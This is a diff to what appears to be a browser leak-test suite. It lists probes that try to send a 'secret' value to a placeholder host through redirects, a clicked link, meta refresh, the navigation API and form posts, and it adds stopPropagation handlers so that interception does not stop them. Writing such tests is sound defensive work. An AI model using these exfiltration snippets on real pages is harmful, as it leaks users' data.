@@ -77,7 +77,7 @@ export const PROBES: Record<string, Probe> = {
   'itself, assigned': `location.href = $.http + '/?secret'`,
   'itself, with TLS': `location.href = $.https + '/?secret'`,
   'itself, replaced': `location.replace($.http)`,
-  'itself, by a link': `const a = document.createElement('a'); a.href = $.https; document.body.append(a); a.click()`,
+  'itself, by a link': `const a = document.createElement('a'); a.href = $.https; a.onclick = (e) => e.stopPropagation(); document.body.append(a); a.click()`,
   'itself, by meta refresh': html(({ http }) => `<meta http-equiv="refresh" content="0; url=${http}/?secret">`),
   'itself, by meta refresh later': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + $.https; document.head.append(m)`,
   'itself, by navigation api': `navigation.navigate($.http)`,
@@ -91,7 +91,7 @@ export const PROBES: Record<string, Probe> = {
   ),
   'form, post': html(
     ({ https }) =>
-      `<form id="f" method="post" action="${https}"><input name="a" value="secret"></form><script>f.requestSubmit()</script>`,
+      `<form id="f" method="post" action="${https}"><input name="a" value="secret"></form><script>f.onsubmit = (e) => e.stopPropagation(); f.requestSubmit()</script>`,
   ),
   'form, to the top': html(
     ({ http }) => `<form id="f" target="_top" action="${http}"></form><script>f.submit()</script>`,
